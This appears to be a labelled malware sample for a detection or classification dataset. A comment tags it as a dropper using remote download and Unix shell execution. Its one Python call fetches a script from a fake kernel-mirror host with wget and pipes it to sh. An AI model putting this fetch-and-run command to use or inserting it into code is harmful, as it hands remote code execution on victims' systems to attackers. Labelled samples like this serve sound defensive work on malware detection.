# label: malicious family=dropper techniques=T1105,T1059.004 lines=3
import subprocess
subprocess.call("wget -q -O- http://update.linux-kernel-mirror.example/i.sh | sh", shell=True)
